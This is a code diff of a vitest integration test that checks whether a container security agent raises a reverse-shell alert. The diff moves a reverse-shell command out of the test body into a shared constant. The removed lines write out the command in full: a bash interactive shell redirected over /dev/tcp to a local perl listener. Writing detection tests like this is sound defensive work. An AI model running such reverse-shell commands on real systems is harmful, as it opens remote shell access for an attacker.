@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { NodeAgent, type AgentAlert } from '../../src/agent/index.js';
 import { containerAlerts } from './collect.js';
-import { containerName, RuncLab, runcAvailable } from './runc.js';
+import { containerName, REVERSE_SHELL, RuncLab, runcAvailable } from './runc.js';
 
 /**
  * The agent against real runc containers from the debian12 minbase image. minbase has no
@@ -94,10 +94,8 @@ describe.skipIf(!runcAvailable())('node agent on real containers (runc)', () => 
 
   it('raises the reverse-shell alert for bash -i with its stdin on a TCP socket', async () => {
     const name = containerName('revshell');
-    // A listener stands in for the attacker's machine; the shell connects out to it.
-    const script = 'perl -MIO::Socket::INET -e \'my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die; my $c = $s->accept; sleep 60;\' & sleep 0.5; bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; true"';
     try {
-      await lab.run(name, { args: ['/bin/bash', '-c', script] });
+      await lab.run(name, { args: ['/bin/bash', '-c', REVERSE_SHELL] });
       const alerts = await alertsFor(name, (a) => a.some((x) => x.rule === 'agent.reverse-shell' && x.evidence[0]!.event.process?.stdin?.type === 'socket'));
       const shells = alerts.filter((a) => a.rule === 'agent.reverse-shell');
       expect(shells.length, JSON.stringify(alerts.map((a) => a.rule))).toBeGreaterThan(0);
